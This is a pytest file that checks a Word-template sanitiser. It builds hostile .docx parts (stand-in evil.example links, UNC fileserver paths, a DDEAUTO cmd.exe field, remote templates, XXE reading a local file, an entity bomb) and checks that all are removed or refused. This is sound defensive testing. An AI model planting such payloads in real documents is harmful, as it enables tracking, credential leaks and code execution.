"""A hostile reference.docx: nothing in it may reach outside the exported document
(security.md, "What leaves in the document"; issue 10 items 2 and 3).

Each case builds a pack whose Word file carries one attack (zip + XML by hand, as an attacker
would), renders with it and checks three things: the render says what it removed, the output
holds no outside reference at all (``audit_docx`` plus a raw search for the attack's marker),
and what the cover shows is kept. XXE cases must be refused, the file's content never read.
"""

from __future__ import annotations

import io
import re
import shutil
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from planner.cli import main
from planner.files.paths import templates_dir
from planner.files.planfile import load_plan, save_plan
from planner.render import RenderError, render_plan
from planner.render.docx_safety import ALLOWED_FIELDS, audit_docx, clean_reference
from planner.render.packs import PackError
from planner.sandbox.parent import render_in_sandbox

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "resources" / "samples" / "sample-plan.yaml"
EVIL = "evil.example"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXT = 'TargetMode="External"'

Edit = Callable[[dict[str, str]], None]


def _rel(parts: dict[str, str], rels: str, rid: str, kind: str, target: str,
         external: bool = True) -> None:
    """Add a relationship to ``rels`` (created if missing)."""
    if rels not in parts:
        parts[rels] = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
                       'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                       '</Relationships>')
    mode = f" {EXT}" if external else ""
    parts[rels] = parts[rels].replace(
        "</Relationships>",
        f'<Relationship Id="{rid}" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>')


def _body(parts: dict[str, str], xml: str) -> None:
    """Put ``xml`` (paragraphs) at the start of the cover."""
    parts["word/document.xml"] = parts["word/document.xml"].replace("<w:body>", "<w:body>" + xml, 1)


def _footer(parts: dict[str, str], xml: str) -> None:
    parts["word/footer1.xml"] = re.sub(r"(<w:ftr [^>]*>)", lambda m: m.group(1) + xml,
                                       parts["word/footer1.xml"], count=1)


def _settings(parts: dict[str, str], xml: str) -> None:
    parts["word/settings.xml"] = re.sub(r"(<w:settings [^>]*>)", lambda m: m.group(1) + xml,
                                        parts["word/settings.xml"], count=1)


def _add_part(parts: dict[str, str], name: str, xml: str, kind: str, content_type: str,
              rid: str) -> None:
    parts[name] = xml
    _rel(parts, "word/_rels/document.xml.rels", rid, kind, name.removeprefix("word/"), False)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        "</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>')


def _field(code: str, shown: str = "見える文字") -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
                   for piece in code.split("|"))
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            + f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def linked_image(parts):
    _rel(parts, "word/_rels/document.xml.rels", "rIdEvil1", "image", f"http://{EVIL}/logo.png")
    _body(parts, '<w:p><w:r><w:pict><v:shape style="width:20pt;height:20pt">'
                 '<v:imagedata r:id="rIdEvil1" o:title=""/></v:shape></w:pict></w:r></w:p>')


def drawing_linked_blip(parts):
    _rel(parts, "word/_rels/document.xml.rels", "rIdEvil1", "image", f"https://{EVIL}/b.png")
    _body(parts, '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/>'
                 '<wp:docPr id="90" name="x"/><a:graphic xmlns:a="http://schemas.openxmlformats.org'
                 '/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
                 'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
                 'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="x"/><pic:cNvPicPr/>'
                 '</pic:nvPicPr><pic:blipFill><a:blip r:link="rIdEvil1"/></pic:blipFill>'
                 '<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
                 '</w:r></w:p>')


def hyperlinks(parts):
    for n, target in enumerate((f"http://{EVIL}/x", "file:///C:/Users/secret.txt",
                                "\\\\fileserver\\share\\x.docx"), 1):
        _rel(parts, "word/_rels/document.xml.rels", f"rIdH{n}", "hyperlink", target)
        _body(parts, f'<w:p><w:hyperlink r:id="rIdH{n}"><w:r><w:t>リンク{n}の文字</w:t></w:r>'
                     '</w:hyperlink></w:p>')


def attached_template(parts):
    _settings(parts, '<w:attachedTemplate r:id="rIdT"/><w:linkStyles/>')
    _rel(parts, "word/_rels/settings.xml.rels", "rIdT", "attachedTemplate",
         "\\\\fileserver\\share\\evil.dotm")


def mail_merge(parts):
    _settings(parts, '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
                     '<w:dataType w:val="odbc"/><w:connectString w:val="DSN=fileserver"/>'
                     '<w:dataSource r:id="rIdM"/></w:mailMerge>')
    _rel(parts, "word/_rels/settings.xml.rels", "rIdM", "mailMergeSource",
         "file:///\\\\fileserver\\data.xlsx")


def fields(parts):
    _body(parts, _field(f' INCLUDEPICTURE "http://{EVIL}/p.png" \\d ')
          + _field(' INCLUDETEXT "C:\\\\secret.txt" ')
          + _field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" ')
          + _field(' INCLUDE|PICTURE "http://' + EVIL + '/split.png" ')  # split over runs
          + _field(' link Excel.Sheet.12 "\\\\\\\\fileserver\\\\a.xlsx" "" \\a ')  # lower case
          + _field(f' HYPERLINK "http://{EVIL}/h" ', "ハイパーリンクの文字")
          + '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://'
          + EVIL + '/s.png&quot; "><w:r><w:t>単純フィールドの文字</w:t></w:r></w:fldSimple></w:p>')


def nested_dynamic_field(parts):
    # { { QUOTE "INCLUDEPICTURE" } "http://evil/x" }: the outer type is computed by a field.
    _body(parts, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                 '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                 '<w:r><w:instrText> QUOTE "INCLUDEPICTURE" </w:instrText></w:r>'
                 '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
                 f'<w:r><w:instrText> "http://{EVIL}/n.png" </w:instrText></w:r>'
                 '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def unbalanced_field(parts):
    _body(parts, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                 f'<w:r><w:instrText> INCLUDETEXT "http://{EVIL}/u" </w:instrText></w:r></w:p>')


def footer_fields(parts):
    _footer(parts, '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\fileserver\\\\f.txt&quot; ">'
                   '<w:r><w:t>フッターの文字</w:t></w:r></w:fldSimple></w:p>'
                   '<w:p><w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>9</w:t></w:r></w:fldSimple></w:p>'
                   '<w:p><w:pict><v:shape><v:imagedata src="http://' + EVIL + '/v.png"/></v:shape>'
                   '</w:pict></w:p>')


def ole_object(parts):
    _rel(parts, "word/_rels/document.xml.rels", "rIdOle", "oleObject",
         "file:///\\\\fileserver\\book.xlsx")
    _body(parts, '<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"/>'
                 '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" '
                 'DrawAspect="Content" r:id="rIdOle" UpdateMode="Always"/></w:object></w:r></w:p>')


def alt_chunk(parts):
    _add_part(parts, "word/afchunk.htm", f'<html><body><img src="http://{EVIL}/a.png"/></body></html>',
              "aFChunk", "text/html", "rIdChunk")
    _body(parts, '<w:altChunk r:id="rIdChunk"/>')


def sub_document(parts):
    _rel(parts, "word/_rels/document.xml.rels", "rIdSub", "subDocument",
         "\\\\fileserver\\share\\sub.docx")
    _body(parts, '<w:p><w:subDoc r:id="rIdSub"/></w:p>')


def glossary(parts):
    gloss = (f'<?xml version="1.0" encoding="UTF-8"?><w:glossaryDocument {W_NS} {R_NS}>'
             '<w:docParts><w:docPart><w:docPartPr><w:name w:val="x"/></w:docPartPr><w:docPartBody>'
             + _field(f' INCLUDETEXT "http://{EVIL}/g" ')
             + '<w:p><w:hyperlink r:id="rIdG"><w:r><w:t>g</w:t></w:r></w:hyperlink></w:p>'
             '</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>')
    _add_part(parts, "word/glossary/document.xml", gloss, "glossaryDocument",
              "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
              "rIdGloss")
    _rel(parts, "word/glossary/_rels/document.xml.rels", "rIdG", "hyperlink", f"http://{EVIL}/g2")


def footnotes_and_comments(parts):
    notes = (f'<?xml version="1.0" encoding="UTF-8"?><w:footnotes {W_NS} {R_NS}>'
             '<w:footnote w:id="1">' + _field(f' INCLUDEPICTURE "http://{EVIL}/fn.png" ')
             + '</w:footnote></w:footnotes>')
    _add_part(parts, "word/footnotes.xml", notes, "footnotes",
              "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
              "rIdFn")
    comments = (f'<?xml version="1.0" encoding="UTF-8"?><w:comments {W_NS} {R_NS}>'
                '<w:comment w:id="1" w:author="x"><w:p><w:fldSimple w:instr=" DDEAUTO x y ">'
                '<w:r><w:t>c</w:t></w:r></w:fldSimple></w:p></w:comment></w:comments>')
    _add_part(parts, "word/comments.xml", comments, "comments",
              "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
              "rIdCm")


def custom_xml_and_web_settings(parts):
    parts["customXml/item1.xml"] = re.sub(
        r"^(<\?xml[^>]*\?>)", lambda m: m.group(1)
        + f'<?xml-stylesheet type="text/xsl" href="http://{EVIL}/x.xsl"?>',
        parts["customXml/item1.xml"])
    parts["word/webSettings.xml"] = parts["word/webSettings.xml"].replace(
        "</w:webSettings>", '<w:frameset><w:frame><w:name w:val="f"/>'
        '<w:sourceFileName r:id="rIdF"/></w:frame></w:frameset></w:webSettings>')
    if "xmlns:r=" not in parts["word/webSettings.xml"].split(">", 2)[1]:
        parts["word/webSettings.xml"] = re.sub(r"<w:webSettings ", f"<w:webSettings {R_NS} ",
                                               parts["word/webSettings.xml"], count=1)
    _rel(parts, "word/_rels/webSettings.xml.rels", "rIdF", "frame", f"http://{EVIL}/frame.htm")


def hyperlink_base(parts):
    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
        "<HyperlinkBase/>", "<HyperlinkBase>\\\\fileserver\\share\\</HyperlinkBase>").replace(
        "<Template>Normal.dotm</Template>", "<Template>\\\\fileserver\\t\\evil.dotm</Template>")


def package_level_external(parts):
    _rel(parts, "_rels/.rels", "rIdPkg", "hyperlink", f"http://{EVIL}/pkg")


def svg_picture(parts):
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
           f'<style>@import url(http://{EVIL}/a.css);</style>'
           f'<image xlink:href="http://{EVIL}/i.png" width="1" height="1"/>'
           f'<rect style="fill:url(http://{EVIL}/f#g)" width="1" height="1"/></svg>')
    _add_part(parts, "word/media/logo.svg", svg, "image", "image/svg+xml", "rIdSvg")


def utf16_svg_picture(parts):
    """The svg_picture attack in UTF-16 without a byte-order mark: lxml reads it (the
    declaration's bytes say the encoding), but its bytes hold no ASCII ``href``."""
    svg = ('<?xml version="1.0" encoding="UTF-16"?>'
           '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
           f'<image xlink:href="http://{EVIL}/u16.png" width="1" height="1"/></svg>')
    _add_part(parts, "word/media/u16.svg", svg.encode("utf-16-le"), "image", "image/svg+xml",
              "rIdU16")


def internal_mode_urls(parts):
    """No TargetMode, yet the targets leave the package: a URL, a UNC and a network path."""
    for n, target in enumerate((f"http://{EVIL}/i.png", "\\\\fileserver\\i.png",
                                "//fileserver/i.png"), 1):
        _rel(parts, "word/_rels/document.xml.rels", f"rIdI{n}", "image", target, False)


def macros(parts):
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really a macro"
    _rel(parts, "word/_rels/document.xml.rels", "rIdVba", "vbaProject", "vbaProject.bin", False)


CASES: dict[str, tuple[Edit, str]] = {
    "svg_picture": (svg_picture, "outside link (http://evil.example/i.png)"),
    "utf16_svg_picture": (utf16_svg_picture, "outside link (http://evil.example/u16.png)"),
    "internal_mode_urls": (internal_mode_urls, "outside reference (image: //fileserver/i.png)"),
    "macros": (macros, "macros"),
    "linked_image": (linked_image, "outside reference (image: http://evil.example/logo.png)"),
    "drawing_linked_blip": (drawing_linked_blip, "outside reference (image"),
    "hyperlinks": (hyperlinks, "outside reference (hyperlink: file:///C:/Users/secret.txt)"),
    "attached_template": (attached_template, "attached template"),
    "mail_merge": (mail_merge, "mail-merge settings"),
    "fields": (fields, "field INCLUDEPICTURE"),
    "nested_dynamic_field": (nested_dynamic_field, "field"),
    "unbalanced_field": (unbalanced_field, "field INCLUDETEXT"),
    "footer_fields": (footer_fields, "field INCLUDETEXT (word/footer1.xml)"),
    "ole_object": (ole_object, "OLE object"),
    "alt_chunk": (alt_chunk, "imported chunk (altChunk)"),
    "sub_document": (sub_document, "sub-document"),
    "glossary": (glossary, "(word/glossary/document.xml)"),
    "footnotes_and_comments": (footnotes_and_comments, "field DDEAUTO (word/comments.xml)"),
    "custom_xml_and_web_settings": (custom_xml_and_web_settings, "processing instruction"),
    "hyperlink_base": (hyperlink_base, "hyperlink base"),
    "package_level_external": (package_level_external, "outside reference (hyperlink"),
}
#: What no output may contain, whichever attack the pack tried.
FORBIDDEN = re.compile(r"evil\.example|fileserver|INCLUDEPICTURE|INCLUDETEXT|DDEAUTO|"
                       r"TargetMode=\"External\"|attachedTemplate|mailMerge|altChunk|"
                       r"OLEObject|subDoc|xml-stylesheet|secret\.txt", re.IGNORECASE)


def _reference_parts() -> dict[str, str | bytes]:
    with zipfile.ZipFile(templates_dir() / "municipal" / "reference.docx") as package:
        return {name: (package.read(name).decode("utf-8")
                       if name.endswith((".xml", ".rels")) else package.read(name))
                for name in package.namelist()}


def _zip(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
    return buffer.getvalue()


def hostile_pack(tmp_path: Path, edit: Edit, name: str = "consultant") -> Path:
    """A user's copy of the municipal pack whose reference.docx carries ``edit``."""
    folder = tmp_path / "packs" / name
    shutil.copytree(templates_dir() / "municipal", folder)
    (folder / "pack.yaml").write_text(f"name: {name}\n", encoding="utf-8")
    parts = _reference_parts()
    edit(parts)
    (folder / "reference.docx").write_bytes(_zip(parts))
    return folder


def _all_parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as package:
        return {n: package.read(n).decode("utf-8", "replace") for n in package.namelist()}


def _assert_self_contained(out: Path) -> None:
    assert audit_docx(out.read_bytes()) == []
    for name, text in _all_parts(out).items():
        assert not FORBIDDEN.search(text), (name, FORBIDDEN.search(text).group(0))


@pytest.mark.parametrize("case", sorted(CASES))
def test_each_outside_reference_is_removed_and_named(case: str, tmp_path: Path) -> None:
    edit, said = CASES[case]
    pack = hostile_pack(tmp_path, edit)
    # The attack is really there: the unsanitised file trips the post-condition check.
    assert audit_docx((pack / "reference.docx").read_bytes()) != []
    out = tmp_path / "計画.docx"
    notices = render_plan(load_plan(SAMPLE), out, pack)
    [(ja, en)] = notices
    assert said in en, en
    assert "reference.docx" in ja and "取り除きました" in ja
    _assert_self_contained(out)
    document = docx.Document(str(out))
    assert document.paragraphs  # python-docx reopens it


def test_shown_text_of_links_and_fields_is_kept(tmp_path: Path) -> None:
    def both(parts):
        hyperlinks(parts)
        fields(parts)

    out = tmp_path / "計画.docx"
    render_plan(load_plan(SAMPLE), out, hostile_pack(tmp_path, both))
    text = "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
    for shown in ("リンク1の文字", "リンク3の文字", "ハイパーリンクの文字", "単純フィールドの文字"):
        assert shown in text


def test_allowed_fields_stay(tmp_path: Path) -> None:
    """PAGE in the footer (the built-in pack's) and planner's own TOC survive cleaning."""
    out = tmp_path / "計画.docx"
    render_plan(load_plan(SAMPLE), out, hostile_pack(tmp_path, footer_fields))
    parts = _all_parts(out)
    footer = next(t for n, t in parts.items() if n.startswith("word/footer"))
    assert " PAGE " in footer and "NUMPAGES" in footer
    assert 'TOC \\o "1-2"' in parts["word/document.xml"]
    assert {"TOC", "PAGE"} <= ALLOWED_FIELDS


def test_the_sandbox_passes_the_notice_to_the_cli(tmp_path: Path, capsys) -> None:
    pack = hostile_pack(tmp_path, attached_template)
    plan_file = tmp_path / "計画.yaml"
    save_plan(load_plan(SAMPLE), plan_file)
    out = tmp_path / "出力.docx"
    assert main(["render", str(plan_file), "-o", str(out), "--template", str(pack)]) == 0
    err = capsys.readouterr().err
    assert "添付テンプレート" in err and "取り除きました" in err and "出力しました" in err
    _assert_self_contained(out)
    notices: list = []
    render_in_sandbox(load_plan(SAMPLE), tmp_path / "b.docx", pack, timeout_s=60,
                      notices=notices)
    assert "attached template" in notices[0][1]


def test_nothing_is_written_if_the_output_would_still_reach_outside(tmp_path: Path,
                                                                   monkeypatch) -> None:
    """The post-condition holds even if cleaning were bypassed: nothing is written."""
    from planner.render import docx_safety

    monkeypatch.setattr(docx_safety, "clean_reference", lambda data, source: (data, []))
    out = tmp_path / "計画.docx"
    out.write_bytes(b"previous")
    with pytest.raises(RenderError) as err:
        render_plan(load_plan(SAMPLE), out, hostile_pack(tmp_path, hyperlinks))
    assert "outside reference (hyperlink" in err.value.message("en")
    assert out.read_bytes() == b"previous"


# -- XXE (item 3) ---------------------------------------------------------------------------


def _with_doctype(part: str, doctype: str, entity_use: str) -> Edit:
    def edit(parts):
        text = parts[part]
        declaration, rest = text.split("?>", 1)
        rest = re.sub(r"(<w:name w:val=\")[^\"]*", lambda m: m.group(1) + entity_use, rest,
                      count=1) if "fontTable" in part else rest.replace(
            "{{ plan.title }}", entity_use, 1)
        parts[part] = declaration + "?>" + doctype + rest
    return edit


@pytest.mark.parametrize("part", ["word/fontTable.xml", "word/document.xml"])
def test_an_external_entity_is_refused_and_never_read(part: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    marker = "XXE-MARKER-5150"
    secret.write_text(marker, encoding="utf-8")
    root = part.split("/")[-1].split(".")[0]
    tag = {"fontTable": "w:fonts", "document": "w:document"}[root]
    doctype = f'<!DOCTYPE {tag} [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
    pack = hostile_pack(tmp_path, _with_doctype(part, doctype, "&xxe;"))
    out = tmp_path / "計画.docx"
    with pytest.raises(PackError) as err:
        render_plan(load_plan(SAMPLE), out, pack)
    assert part in err.value.message("en") and "DOCTYPE" in err.value.message("en")
    assert marker not in err.value.message("ja") + err.value.message("en")
    assert not out.exists()


def test_an_entity_bomb_is_refused_at_once(tmp_path: Path) -> None:
    lol = '<!ENTITY a "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY {b} "{("&" + a + ";") * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    pack = hostile_pack(tmp_path, _with_doctype("word/document.xml",
                                                f"<!DOCTYPE w:document [{lol}]>", "&i;"))
    started = time.monotonic()
    with pytest.raises(PackError, match="DOCTYPE"):
        render_plan(load_plan(SAMPLE), tmp_path / "out.docx", pack)
    assert time.monotonic() - started < 5


def test_a_utf16_part_with_a_doctype_is_refused_too(tmp_path: Path) -> None:
    def edit(parts):
        text = parts["word/fontTable.xml"].replace("encoding='UTF-8'", "encoding='UTF-16'") \
            .replace('encoding="UTF-8"', 'encoding="UTF-16"')
        declaration, rest = text.split("?>", 1)
        parts["word/fontTable.xml"] = (declaration + "?>" + '<!DOCTYPE w:fonts [<!ENTITY x '
                                       '"y">]>' + rest).encode("utf-16")

    with pytest.raises(PackError, match="DOCTYPE"):
        render_plan(load_plan(SAMPLE), tmp_path / "out.docx", hostile_pack(tmp_path, edit))


def test_python_docx_itself_never_expands_an_external_entity(tmp_path: Path) -> None:
    """Defence in depth, and the reason for the lxml>=5 floor: python-docx's own parser,
    given a part with an external entity, does not read the file."""
    from docx.oxml.parser import parse_xml

    from planner.render.docx_safety import harden_python_docx

    harden_python_docx()
    secret = tmp_path / "secret.txt"
    secret.write_text("XXE-MARKER-7", encoding="utf-8")
    xml = (f'<!DOCTYPE w:p [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
           f'<w:p {W_NS}><w:r><w:t>&x;</w:t></w:r></w:p>')
    element = parse_xml(xml.encode())
    from lxml import etree

    assert "XXE-MARKER-7" not in etree.tostring(element).decode()


def test_damaged_packages_are_refused_with_a_clear_message(tmp_path: Path) -> None:
    parts = _reference_parts()
    bad = dict(parts)
    bad["word/styles.xml"] = "<w:styles>not closed"
    with pytest.raises(PackError, match=r"styles\.xml is not well-formed XML"):
        clean_reference(_zip(bad), "ref.docx")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:  # two parts of one name
        package.writestr("word/document.xml", "<a/>")
        with pytest.warns(UserWarning, match="Duplicate name"):
            package.writestr("word/document.xml", "<b/>")
    with pytest.raises(PackError, match="two parts of the same name"):
        clean_reference(buffer.getvalue(), "ref.docx")
    with pytest.raises(PackError, match="cannot open the Word file"):
        clean_reference(b"PK\x03\x04 not really", "ref.docx")
    corrupt = bytearray(_zip(parts))  # damaged deflate data inside a member (zlib.error)
    at = corrupt.find(b"word/styles.xml") + 40
    corrupt[at:at + 20] = b"\xff" * 20
    with pytest.raises(PackError, match="cannot open the Word file"):
        clean_reference(bytes(corrupt), "ref.docx")


def test_built_in_reference_files_need_no_cleaning() -> None:
    for name in ("municipal", "prefecture"):
        data = (templates_dir() / name / "reference.docx").read_bytes()
        assert clean_reference(data, name)[1] == []


def test_a_css_import_is_found_where_no_attribute_could_link() -> None:
    """A part whose bytes name no src/href/style attribute has only its style elements
    looked at (Word's styles.xml: hundreds of <w:style>); a CSS @import there is still found,
    and a UTF-16 part is always looked at in full."""
    from planner.render.docx_safety import _may_link, audit_parts

    svg = ('<svg xmlns="http://www.w3.org/2000/svg"><style>'
           f'@import url(http://{EVIL}/a.css);</style></svg>')
    assert _may_link(svg.encode()) == "elements"
    [found] = audit_parts([("word/media/a.svg", svg.encode())])
    assert found.what.en == "outside link (style)"
    assert _may_link(svg.encode("utf-16-le")) == "all"
    assert _may_link(b'<w:styles xmlns:w="x"><w:style w:styleId="a"/></w:styles>') == "elements"
    assert _may_link(b'<w:document xmlns:w="x"><w:pStyle w:val="a"/></w:document>') == ""
